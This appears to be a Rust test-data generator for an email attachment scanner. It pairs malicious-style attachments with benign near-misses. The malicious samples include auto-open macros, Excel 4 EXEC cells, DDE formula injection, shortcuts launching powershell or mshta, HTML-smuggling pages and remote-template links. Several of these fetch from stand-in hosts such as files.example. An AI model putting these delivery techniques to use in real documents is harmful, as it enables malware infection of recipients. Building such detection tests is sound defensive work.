//! Files that act when they are opened, and files beside them that do not.

use data_encoding::BASE64;

use super::{Change, Mail, Mutation, attached, own_text};
use crate::Rng;
use crate::files::{self, acting};

pub(super) const MUTATIONS: &[Mutation] = &[
    Mutation {
        id: "macro-runs-on-open",
        fires: Change::Bytes(macro_that_acts),
        near_miss: Change::Bytes(macro_that_works),
    },
    Mutation {
        id: "excel4-macro",
        fires: Change::Bytes(sheet_that_acts),
        near_miss: Change::Bytes(sheet_that_counts),
    },
    Mutation { id: "enable-content-lure", fires: Change::Bytes(lure), near_miss: Change::Bytes(manual) },
    Mutation {
        id: "external-template",
        fires: Change::Bytes(template),
        near_miss: Change::Bytes(own_template),
    },
    Mutation { id: "external-object", fires: Change::Bytes(object), near_miss: Change::Bytes(ordinary_link) },
    Mutation { id: "dde-command", fires: Change::Bytes(formula), near_miss: Change::Bytes(ordinary_formula) },
    Mutation {
        id: "activex-control",
        fires: Change::Bytes(control),
        near_miss: Change::Bytes(ordinary_control),
    },
    Mutation { id: "attacked-object", fires: Change::Bytes(attacked), near_miss: Change::Bytes(equation) },
    Mutation { id: "script-runs-on-open", fires: Change::Bytes(script), near_miss: Change::Bytes(drawing) },
    Mutation {
        id: "starts-a-program",
        fires: Change::Bytes(command),
        near_miss: Change::Bytes(link_to_document),
    },
    Mutation {
        id: "page-builds-file",
        fires: Change::Bytes(builder),
        near_miss: Change::Bytes(ordinary_page),
    },
    Mutation {
        id: "link-opens-by-itself",
        fires: Change::Bytes(leads_on),
        near_miss: Change::Bytes(ordinary_page),
    },
    Mutation { id: "link-in-picture", fires: Change::Bytes(code), near_miss: Change::Bytes(code_of_words) },
    Mutation {
        id: "opened-with-password",
        fires: Change::Bytes(password),
        near_miss: Change::Bytes(password_elsewhere),
    },
];

fn macro_that_acts(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let start = *rng.pick(&["AutoOpen", "Document_Open", "Auto_Open", "AutoExec", "Document_Close"]);
    let body = *rng.pick(&[
        "Shell \"cmd /c rem\", 0",
        "Set w = CreateObject(\"WScript.Shell\")\nw.Run \"cmd /c rem\", 0, False",
        "x = \"Msx\" & \"ml2.XMLHTTP\"\nSet h = CreateObject(x)\nh.Open \"GET\", \"https://files.example/a\", False\nh.Send",
        "CreateObject(\"Shell.Application\").ShellExecute \"powershell\", \"-c exit\"",
        "Open Environ(\"TEMP\") & \"\\a.bat\" For Output As #1\nPrint #1, \"rem\"\nClose #1\nShell Environ(\"TEMP\") & \"\\a.bat\"",
    ]);
    let source = format!("Sub {start}()\n{body}\nEnd Sub\n");
    match rng.below(2) {
        0 => attached(rng, mail, "請求書.docm", &acting::document_with_macro(&source)),
        _ => attached(rng, mail, "ご案内.doc", &acting::old_document_with_macro(&source)),
    }
}

fn macro_that_works(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let source = *rng.pick(&[
        "Sub 書式()\nSelection.Font.Bold = True\nSelection.ParagraphFormat.Alignment = 1\nEnd Sub\n",
        "' Shell \"cmd\" は使わない\nSub 日付を入れる()\nSelection.TypeText Format(Date, \"yyyy年m月d日\")\nEnd Sub\n",
        "Function 税込(x)\n税込 = x * 1.1\nEnd Function\n",
    ]);
    attached(rng, mail, "書式.docm", &acting::document_with_macro(source))
}

fn sheet_that_acts(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let act = *rng.pick(&[
        "EXEC(\"cmd /c rem\")",
        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://files.example/a\",\"a.txt\",0,0)",
        "EXEC(\"ms\"&\"hta https://files.example/a\")",
        "EXEC(CHAR(99)&CHAR(109)&CHAR(100)&\" /c rem\")",
    ]);
    let row = rng.between(1, 40);
    let sheet = format!(
        "ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER{row}C1\r\nC;X1;Y{row};K0;E{act}\r\nC;X1;Y{};K0;EHALT()\r\nE\r\n",
        row + 1
    );
    attached(rng, mail, "名簿.slk", sheet.as_bytes())
}

fn sheet_that_counts(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let sheet = format!(
        "ID;PWXL;N;E\r\nC;X1;Y1;K{}\r\nC;X1;Y2;K{}\r\nC;X1;Y3;K0;ESUM(R1C1:R2C1)\r\nE\r\n",
        rng.digits(3),
        rng.digits(3)
    );
    attached(rng, mail, "集計.slk", sheet.as_bytes())
}

fn lure(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let text = *rng.pick(&[
        "この文書は保護されています。\n表示するには「編集を有効にする」をクリックし、次に「コンテンツの有効化」をクリックしてください。",
        "このドキュメントは以前のバージョンの Office で作成されました。\n内容を表示するには、黄色のバーの［コンテンツの有効化］を押してください。",
        "This document is protected.\nTo view its content, click Enable Editing and then Enable Content in the yellow bar above.",
        "Document created in earlier version of Microsoft Office Word.\nTo view this content, please click \"Enable editing\" from the yellow bar and then click \"Enable content\".",
    ]);
    attached(rng, mail, "請求書.docx", &acting::document(text, &[], &[]))
}

fn manual(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let text = *rng.pick(&[
        "情報システム係より。\n不審な文書で「コンテンツの有効化」を求められても、押さないでください。",
        "議事録\n次回は編集方針を決める。内容の確認は各自で行う。",
        "Please review the content and enable us to finish the editing by Friday.",
    ]);
    attached(rng, mail, "お知らせ.docx", &acting::document(text, &[], &[]))
}

fn template(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let target = *rng.pick(&[
        "https://files.example/templates/a.dotm",
        "http://203.0.113.9/a.dotm",
        "https://cdn.files.example/x/y.dotx?id=1",
        "\\\\203.0.113.9\\share\\a.dotm",
    ]);
    attached(rng, mail, "契約書.docx", &acting::document("契約書", &[("attachedTemplate", target)], &[]))
}

fn own_template(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let target = *rng.pick(&[
        "file:///C:\\Users\\sato\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
        "Normal.dotm",
        "file:///D:\\書式\\契約.dotx",
    ]);
    attached(rng, mail, "契約書.docx", &acting::document("契約書", &[("attachedTemplate", target)], &[]))
}

fn object(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let link = *rng.pick(&[
        ("oleObject", "https://files.example/a.hta"),
        ("oleObject", "mhtml:https://files.example/a.html!x-usc:https://files.example/a.html"),
        ("frame", "http://203.0.113.9/a.html"),
        ("image", "\\\\203.0.113.9\\share\\a.png"),
    ]);
    attached(rng, mail, "見積書.docx", &acting::document("見積書", &[link], &[]))
}

fn ordinary_link(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let link = *rng.pick(&[
        ("hyperlink", "https://www.midori.example/"),
        ("hyperlink", "mailto:info@midori.example"),
        ("image", "https://www.midori.example/logo.png"),
    ]);
    attached(rng, mail, "見積書.docx", &acting::document("見積書", &[link], &[]))
}

fn formula(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let cell = *rng.pick(&[
        "=cmd|' /c rem'!A1",
        "+cmd|' /c rem'!A0",
        "@SUM(1+1)*cmd|' /c rem'!A0",
        "=mshta|'https://files.example/a'!A1",
    ]);
    let table = format!("番号,氏名\r\n{},\"{cell}\"\r\n", rng.digits(3));
    attached(rng, mail, "名簿.csv", table.as_bytes())
}

fn ordinary_formula(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let cell = *rng.pick(&["=SUM(A1:A3)", "-5|-3", "cmd|と表示される", "=A1&\"|\"&B1"]);
    let table = format!("番号,氏名\r\n{},\"{cell}\"\r\n", rng.digits(3));
    attached(rng, mail, "名簿.csv", table.as_bytes())
}

fn control(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let class = *rng.pick(&[
        "8856F961-340A-11D0-A96B-00C04FD705A2",
        "D27CDB6E-AE6D-11CF-96B8-444553540000",
        "8856f961-340a-11d0-a96b-00c04fd705a2",
    ]);
    let part = ("word/activeX/activeX1.xml", acting::control(class, ("Location", "https://files.example/a")));
    attached(rng, mail, "申込書.docx", &acting::document("申込書", &[], &[part]))
}

fn ordinary_control(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    // A check box, a text field, a button of the forms' own library.
    let class = *rng.pick(&[
        "8BD21D40-EC42-11CE-9E0D-00AA006002F3",
        "8BD21D10-EC42-11CE-9E0D-00AA006002F3",
        "D7053240-CE69-11CD-A777-00DD01143C57",
    ]);
    let part = ("word/activeX/activeX1.xml", acting::control(class, ("Caption", "同意する")));
    attached(rng, mail, "申込書.docx", &acting::document("申込書", &[], &[part]))
}

fn attacked(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let filling = *rng.pick(&[0x90_u8, 0x41, 0xCC]);
    let length = rng.between(45, 120);
    let mut records = vec![0x0A, 0x01, 0x08, 0x5A, 0x5A];
    records.extend(std::iter::repeat_n(filling, length));
    records.extend([0x12, 0x0C, 0x43, 0, 0]);
    attached(rng, mail, "論文.rtf", &acting::equation(&records))
}

fn equation(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let font = *rng.pick(&["Times New Roman", "Symbol", "MS Mincho"]);
    let mut records = vec![0x0A, 0x01, 0x08, 0x00, 0x00];
    records.extend(font.as_bytes());
    records.extend([0, 0x02, 0x83, b'a', 0, 0, 0]);
    attached(rng, mail, "論文.rtf", &acting::equation(&records))
}

fn script(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    match rng.below(3) {
        0 => {
            let source = "Set w = CreateObject(\"WScript.Shell\")\r\nw.Run \"cmd /c rem\", 0\r\n";
            attached(rng, mail, "資料.vbs", source.as_bytes())
        }
        1 => {
            let source = "var x = new ActiveXObject('MSXML2.XMLHTTP');\r\nx.open('GET', 'https://files.example/a', false);\r\nx.send();\r\nnew ActiveXObject('WScript.Shell').Run('cmd /c rem');\r\n";
            attached(rng, mail, "請求書.js", source.as_bytes())
        }
        _ => {
            let entry = "/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName: \"a\", nLaunch: 2}\\);) >>";
            attached(rng, mail, "請求書.pdf", &acting::pdf_with(entry))
        }
    }
}

fn drawing(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let drawing = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{}\" height=\"90\"><rect width=\"40\" height=\"40\"/><text x=\"4\" y=\"60\">配置図</text></svg>\n",
        rng.between(80, 200)
    );
    attached(rng, mail, "配置図.svg", drawing.as_bytes())
}

fn command(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let (program, arguments) = *rng.pick(&[
        ("..\\..\\Windows\\System32\\cmd.exe", "/c rem https://files.example/a"),
        (
            "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "-w hidden -c \"iwr https://files.example/a\"",
        ),
        ("..\\..\\Windows\\System32\\mshta.exe", "https://files.example/a.hta"),
        ("..\\..\\Windows\\System32\\rundll32.exe", "a.dll,Start"),
    ]);
    attached(rng, mail, "資料.pdf.lnk", &acting::shortcut_to(program, arguments))
}

fn link_to_document(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let program = *rng.pick(&["..\\共有\\見積書.xlsx", "..\\Documents\\議事録.docx", "..\\図面\\配置図.pdf"]);
    attached(rng, mail, "見積書.lnk", &acting::shortcut_to(program, ""))
}

fn builder(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let content = files::zip(&[("run.exe", files::program(rng))]);
    let content = BASE64.encode(&content);
    let page = match rng.below(3) {
        0 => format!(
            "<html><body><script>var b = atob('{content}');var a = new Uint8Array(b.length);for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);\
             var l = document.createElement('a');l.href = URL.createObjectURL(new Blob([a]));l.download = 'invoice.zip';l.click();</script></body></html>"
        ),
        1 => format!(
            "<html><body><a id=\"x\" download=\"資料.zip\" href=\"data:application/zip;base64,{content}\">open</a><script>document.getElementById('x').click()</script></body></html>"
        ),
        _ => format!(
            "<html><body onload=\"f()\"><script>function f() {{ var d = \"{content}\"; var n = Uint8Array.from(atob(d), c => c.charCodeAt(0)); window.navigator.msSaveOrOpenBlob(new Blob([n]), 'scan.zip'); }}</script></body></html>"
        ),
    };
    attached(rng, mail, "請求書.html", page.as_bytes())
}

fn leads_on(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    match rng.below(3) {
        0 => {
            let page = "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://files.example/login\"></head><body></body></html>";
            attached(rng, mail, "通知.html", page.as_bytes())
        }
        1 => {
            let page = "<html><body><script>window.location.href = 'https://files.example/login';</script></body></html>";
            attached(rng, mail, "通知.html", page.as_bytes())
        }
        _ => {
            let entry = "/OpenAction << /S /URI /URI (https://files.example/a) >>";
            attached(rng, mail, "通知.pdf", &acting::pdf_with(entry))
        }
    }
}

fn ordinary_page(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let page = format!(
        "<html><head><title>報告</title><style>td {{ padding: 2px }}</style></head><body><h1>月次報告 {}</h1><table><tr><td>売上</td><td>{}</td></tr></table><p><a href=\"https://www.midori.example/\">当社サイト</a></p></body></html>",
        rng.between(1, 12),
        rng.digits(6)
    );
    attached(rng, mail, "報告.html", page.as_bytes())
}

fn code(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let link = format!("https://files.example/{}", rng.digits(6));
    attached(rng, mail, "ご案内.png", &acting::code(&link))
}

fn code_of_words(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    if rng.chance(50) {
        let words = format!("座席 {}", rng.digits(3));
        return attached(rng, mail, "席.png", &acting::code(&words));
    }
    let step = rng.between(5, 17);
    attached(
        rng,
        mail,
        "模様.png",
        &acting::picture(160, |x, y| if (x / step + y / step).is_multiple_of(2) { 0 } else { 255 }),
    )
}

fn password(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let word = format!("mdr{}", rng.digits(5));
    let line = match rng.below(4) {
        0 => format!("解凍パスワード：{word}"),
        1 => format!("パスワードは {word} です。"),
        2 => format!("Password: {word}"),
        _ => format!("PW {word}"),
    };
    with_locked(rng, mail, &word, &line)
}

fn password_elsewhere(rng: &mut Rng, mail: &Mail) -> Option<Vec<u8>> {
    let word = format!("mdr{}", rng.digits(5));
    with_locked(rng, mail, &word, "パスワードは別のメールでお送りします。")
}

fn with_locked(rng: &mut Rng, mail: &Mail, password: &str, line: &str) -> Option<Vec<u8>> {
    let content = files::pdf(rng);
    let bytes = acting::zip_with_password("図面.pdf", &content, password);
    let mut changed = mail.clone();
    changed.set_bodies(rng, &format!("{}\n{line}\n", own_text(mail)), None);
    changed.attach(rng, "図面.zip", &bytes);
    Some(changed.to_bytes())
}
